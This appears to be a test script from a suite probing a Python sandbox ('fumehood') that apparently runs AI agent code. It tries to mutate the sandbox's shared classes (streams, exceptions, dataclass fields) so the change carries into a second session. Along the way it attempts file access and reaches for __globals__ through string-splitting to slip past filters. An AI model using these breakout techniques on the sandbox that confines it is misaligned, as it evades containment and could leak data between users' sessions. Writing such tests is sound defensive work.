# aim: change the classes of errors, streams and fields that the sandbox hands out
# mechanism: type() of what the sandbox hands out, then attribute assignment
# language: run
# reason: the sandbox's own classes are shared by every session
# jail: process
# plain: none (there is nothing of fumehood's in plain Python)

import dataclasses
import sys


@dataclasses.dataclass
class Record:
    x: int = 0


things = [sys.stdout, sys.stderr, dataclasses.fields(Record)[0]]
for attempt in (lambda: open("x"), lambda: getattr(loot, "__glo" + "bals__"), lambda: sys.modules, lambda: final_answer(1)):
    try:
        attempt()
    except BaseException as error:
        things += [error, *map(lambda kind: kind, type(error).__mro__)]
try:
    things.append(compile("1", "name", "eval"))
except Exception:
    pass
for thing in things:
    for kind in (thing if isinstance(thing, type) else type(thing)).__mro__:
        try:
            kind.escaped = True
        except (TypeError, AttributeError):
            pass
# --- second executor
import sys

things = [sys.stdout, compile("1", "name", "eval")]
for attempt in (lambda: eval("op" + "en('x')"), lambda: getattr(loot, "__glo" + "bals__"), lambda: sys.modules):
    try:
        attempt()
    except BaseException as error:
        things.append(error)
for thing in things:
    if hasattr(thing, "escaped"):
        loot(f"mutated: {type(thing).__name__}")
